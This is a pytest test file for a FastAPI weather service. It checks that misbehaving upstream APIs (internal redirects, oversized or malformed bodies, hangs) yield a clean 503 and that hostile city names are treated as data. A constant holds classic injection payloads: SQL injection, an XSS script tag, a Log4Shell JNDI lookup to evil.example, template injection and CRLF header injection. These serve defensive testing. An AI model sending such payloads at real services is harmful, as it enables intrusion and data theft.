"""API10:2023 Unsafe Consumption of APIs: what the weather's and the webhooks' other side may do.

How the client treats each misbehaviour is in tests/weather/test_weather.py; here it is what a caller sees.
"""

import json
from collections.abc import AsyncIterator
from dataclasses import replace
from typing import Final

import pytest
from fastapi import FastAPI

from service.container.api import Container
from service.weather.open_meteo import MAX_BODY
from tests.helpers.client import Api, assert_problem
from tests.weather.test_weather import (
    BERLIN,
    CURRENT,
    Behaviour,
    Upstream,
    answer,
    client,
    geocoded,
    hang,
)
from tests.weather.test_weather import upstream as misbehaving

__all__ = ["misbehaving"]

INNER: Final = "http://127.0.0.1:9/inner"
#: No upstream of ours has these in a name.
HOSTILE: Final = (
    "Robert'); DROP TABLE items;--", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "{{7*7}}",
    "\u202egnp.exe", "Ber\r\nSet-Cookie: a=1", "\ud800",
)  # fmt: skip


@pytest.fixture
async def upstream(misbehaving: Upstream, app: FastAPI, container: Container) -> AsyncIterator[Upstream]:
    """A geocoder and a forecast that misbehave as the test says, asked by the application."""
    patient = client(follow_redirects=True, timeout=None)
    service = misbehaving.service(deadline=0.3, client=patient)
    before = app.state.container
    app.state.container = replace(container, weather=service)
    yield misbehaving
    app.state.container = before


def redirect(status: str) -> Behaviour:
    return answer(b"", status=status, headers=(f"Location: {INNER}",))


@pytest.mark.parametrize(
    "behaviour",
    [
        *(redirect(status) for status in ("301 Moved", "302 Found", "307 Temporary", "308 Permanent")),
        answer(b"[" * (MAX_BODY + 1)),
        hang,
        answer({"results": [BERLIN | {"latitude": "52.5"}]}),
        answer({"results": [BERLIN | {"latitude": 1e308}]}),
        answer(b'{"results": [{"name": "Berlin", "latitude": NaN, "longitude": 1}]}'),
        answer(b"\xff\xfe\x00"),
        answer(b"<html>upstream secret</html>"),
    ],
)
@pytest.mark.parametrize("part", ["geocode", "forecast"])
async def test_an_upstream_that_misbehaves_is_503_and_nothing_of_it_is_shown(
    api: Api, upstream: Upstream, part: str, behaviour: Behaviour
) -> None:
    upstream.geocode, upstream.forecast = geocoded(BERLIN), answer({"current": CURRENT})
    setattr(upstream, part, behaviour)
    response = await api.get("/weather/Berlin")
    problem = assert_problem(response, 503, "unavailable")
    assert response.headers["retry-after"]
    assert "upstream" not in json.dumps(problem)
    assert "127.0.0.1" not in response.text


@pytest.mark.parametrize("name", HOSTILE, ids=ascii)
async def test_a_hostile_name_is_data_or_is_refused(api: Api, upstream: Upstream, name: str) -> None:
    upstream.geocode, upstream.forecast = geocoded(BERLIN | {"name": name}), answer({"current": CURRENT})
    response = await api.get("/weather/Berlin")
    assert response.status_code in (200, 503)
    assert "set-cookie" not in response.headers
    if response.status_code == 200:
        assert response.headers["content-type"] == "application/json"
        assert response.json()["city"] == name
